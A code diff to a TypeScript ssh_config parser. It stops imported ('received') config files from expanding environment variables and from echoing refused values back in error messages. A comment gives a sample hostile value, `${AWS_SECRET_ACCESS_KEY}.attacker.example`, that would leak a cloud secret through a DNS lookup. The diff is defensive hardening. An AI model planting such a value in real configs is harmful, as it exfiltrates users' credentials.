@@ -376,7 +376,15 @@ function localUser(): string {
 class ConfigReader {
   readonly errors: FieldError[] = [];
 
-  constructor(private readonly values: Computed) {}
+  /**
+   * `received`: a file the person was handed, not one they wrote. It may not read their
+   * environment (`${AWS_SECRET_ACCESS_KEY}.attacker.example` would send it out in a DNS lookup), and
+   * a refused value is not quoted back (the file may be a secret picked by mistake).
+   */
+  constructor(
+    private readonly values: Computed,
+    private readonly received = false,
+  ) {}
 
   all(keyword: string): string[] {
     const value = this.values[keyword.toLowerCase()];
@@ -394,7 +402,7 @@ class ConfigReader {
   }
 
   reject(field: string, keyword: string, raw: string, problem: string): undefined {
-    this.errors.push({ path: field, message: `${keyword} "${raw}": ${problem}` });
+    this.errors.push({ path: field, message: this.received ? `${keyword}: ${problem}` : `${keyword} "${raw}": ${problem}` });
     return undefined;
   }
 
@@ -425,6 +433,10 @@ class ConfigReader {
   expand(keyword: string, field: string, raw: string, tokens: ReadonlyMap<string, string>, text = raw): string | undefined {
     let problem: string | undefined;
     const expanded = text.replace(/%(.?)|\$\{([^}]*)\}/g, (whole, token: string | undefined, variable: string | undefined) => {
+      if (variable !== undefined && this.received) {
+        problem ??= 'environment variables are not expanded in a received ssh_config';
+        return whole;
+      }
       const value = variable === undefined ? tokens.get(token ?? '') : process.env[variable];
       if (value === undefined) problem ??= variable === undefined ? `unsupported token ${whole}` : `environment variable ${variable} is not set`;
       return value ?? whole;
@@ -488,8 +500,8 @@ interface Overrides {
   port?: number;
 }
 
-function toResolved(alias: string, computed: Computed, overrides: Overrides): Parsed<ResolvedSshHost> {
-  const reader = new ConfigReader(computed);
+function toResolved(alias: string, computed: Computed, overrides: Overrides, received: boolean): Parsed<ResolvedSshHost> {
+  const reader = new ConfigReader(computed, received);
   const hostName = reader.expand('HostName', 'hostName', reader.first('HostName') ?? alias, new Map([['%', '%'], ['h', alias]])) ?? alias;
   // After expansion, as ssh checks it; the value is not quoted back (an imported file may be hostile).
   const hostNameRefused = hostNameProblem(hostName);
@@ -522,7 +534,9 @@ function toResolved(alias: string, computed: Computed, overrides: Overrides): Pa
 
 function resolveIn(session: Session, alias: string, overrides: Overrides): Parsed<ResolvedSshHost> {
   const computed = computeFor(session, alias);
-  return computed.ok ? toResolved(alias, computed.value, overrides) : computed;
+  // Only a received file's session skips its Includes (importSshConfigText).
+  const received = session.ignoredIncludes !== undefined;
+  return computed.ok ? toResolved(alias, computed.value, overrides, received) : computed;
 }
 
 // ---- ProxyJump ----
